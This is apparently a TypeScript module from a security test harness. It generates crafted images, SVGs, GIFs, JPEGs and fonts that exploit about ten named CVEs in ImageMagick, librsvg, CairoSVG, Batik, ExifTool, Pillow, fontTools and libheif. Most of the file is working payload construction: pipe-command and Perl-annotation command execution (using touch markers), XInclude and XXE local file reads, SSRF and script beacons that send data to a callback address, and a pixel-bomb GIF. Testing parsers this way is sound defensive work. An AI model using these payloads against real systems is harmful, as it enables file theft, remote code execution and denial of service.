/** Holes of what reads images, drawings and fonts. */
import { deflateSync } from 'node:zlib';
import { harmless } from '../attacks/attack.ts';
import { be16, be32, join, png, pngChunk, zeros } from '../attacks/bytes.ts';
import { selfDerived } from '../attacks/image-files.ts';
import { byFile, byTool, type Cve } from './cve.ts';

const names = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:xi="http://www.w3.org/2001/XInclude"';
const drawing = (body: string): string => `<svg ${names} width="99" height="99">${body}<text y="20">words</text></svg>`;

/** A JPEG of one grey block whose Exif has what ExifTool takes for a DjVu with an annotation. */
const jpegWithNotes = (note: string): Buffer => {
  const chunk = join('ANTa', be32(note.length), note);
  const djvu = join('AT&TFORM', be32(chunk.length + 4), 'DJVU', chunk);
  const ifd = join('MM\0*', be32(8), be16(1), be16(0xc51b), be16(7), be32(djvu.length), be32(26), be32(0), djvu);
  const exif = join('Exif\0\0', ifd);
  return join(
    '\xff\xd8\xff\xe1',
    be16(exif.length + 2),
    exif,
    Buffer.from(
      'ffdb004300' +
        '01'.repeat(64) +
        'ffc0000b080008000801011100ffc4001400010000000000000000000000000000000affc40014100100000000000000000000000000000000ffda0008010100003f0020ffd9',
      'hex',
    ),
  );
};

/** A GIF of one frame of this size in a single run. */
const gif = (side: number): Buffer =>
  join(
    'GIF89a',
    Buffer.from([side & 255, side >> 8, side & 255, side >> 8]),
    '\xf0\0\0\0\0\0\xff\xff\xff\x2c\0\0\0\0',
    Buffer.from([side & 255, side >> 8, side & 255, side >> 8]),
    '\0\x02\x02\x44\x01\0;',
  );

const font = (svg: string): Buffer => {
  const document = join(be16(0), be32(10), be32(0), be16(1), be16(0), be16(9), be32(14), be32(svg.length), svg);
  const tables = [
    ['SVG ', document],
    ['head', zeros(54)],
    ['maxp', join(be32(0x00010000), be16(1), zeros(26))],
  ] as const;
  let at = 12 + tables.length * 16;
  const directory = tables.map(([tag, data]) => {
    const entry = join(tag, be32(0), be32(at), be32(data.length));
    at += data.length;
    return entry;
  });
  return join('OTTO', be16(tables.length), zeros(6), ...directory, ...tables.map(([, data]) => data));
};

export const imageHoles: readonly Cve[] = [
  byFile(
    ['CVE-2022-44268', 'ImageMagick', 'The note `profile` of a PNG names a file, whose content is written into the result.'],
    harmless('', 'png pcx', ({ file }) =>
      png(8, 8, deflateSync(zeros(200)), pngChunk('tEXt', `profile\0${file}`), pngChunk('tEXt', `Raw profile type icc\0${file}`)),
    ),
  ),
  byFile(
    ['CVE-2023-34152', 'ImageMagick', 'A name that begins with a bar is a command.'],
    harmless('', 'svg png', ({ file }) =>
      drawing(
        `<image xlink:href="|touch /tmp/hostile-bar" width="9" height="9"/><image xlink:href="msl:/tmp/hostile-bar" width="9" height="9"/><image xlink:href="text:${file}" width="9" height="9"/>`,
      ),
    ),
  ),
  byFile(
    ['CVE-2023-38633', 'librsvg', 'An address with a question mark leads xi:include out of the folder of a drawing.'],
    harmless('', 'svg png', ({ file }) =>
      drawing(
        `<text y="40"><xi:include href=".?../../../../../../../../../..${file}" parse="text" encoding="UTF-8"><xi:fallback>none</xi:fallback></xi:include><xi:include href="file://${file}" parse="text"/></text>`,
      ),
    ),
  ),
  byFile(
    ['CVE-2023-27586', 'CairoSVG', 'Images, style sheets and parts of other drawings are fetched from any address.'],
    harmless(
      '',
      'svg pdf',
      ({ call, image }) =>
        `<?xml-stylesheet href="${call}"?>${drawing(`<style>@import url("${call}");</style><image href="${call}" width="99" height="99"/><use href="${call}#a"/><image href="file://${image}" width="99" height="99"/>`)}`,
      { seconds: 30 },
    ),
  ),
  byFile(
    ['CVE-2022-44730', 'Apache Batik', 'A script in a drawing looks around and sends what it finds away.'],
    harmless('', 'svg png', ({ call }) =>
      drawing(
        `<script>fetch("${call}?"+document.URL);new Image().src="${call}"</script><script type="application/java-archive" xlink:href="${call}"/><rect width="9" height="9" onload="fetch('${call}')"/>`,
      ),
    ),
  ),
  byFile(
    ['CVE-2021-22204', 'ExifTool', 'An annotation of a DjVu is run as Perl, also from inside a JPEG.'],
    harmless('', 'jpg png', () => jpegWithNotes(`(metadata "\\c\${system('touch /tmp/hostile-annotation')};")`), { options: {} }),
  ),
  byFile(
    ['CVE-2022-45198', 'Pillow', 'A few bytes of GIF become an image of thousands of millions of pixels.'],
    harmless('', 'gif png', () => gif(65_500), { seconds: 30 }),
  ),
  byFile(
    ['CVE-2023-45139', 'fontTools', 'External entities of a drawing inside a font are read.'],
    harmless('', 'otf woff2', ({ file }) =>
      font(`<!DOCTYPE svg [<!ENTITY taken SYSTEM "file://${file}">]>${drawing('<text>&taken;</text>')}`),
    ),
  ),
  byFile(
    ['CVE-2023-49460', 'libheif', 'An uncompressed image that is shorter than it says is read past its end.'],
    harmless('', 'heic png', () => selfDerived('heic', 'unci'), { seconds: 30 }),
  ),
  byTool(['CVE-2023-4863', 'libwebp', 'Tables of a lossless image are written past their end, so that code of its author runs.'], 'worker'),
];
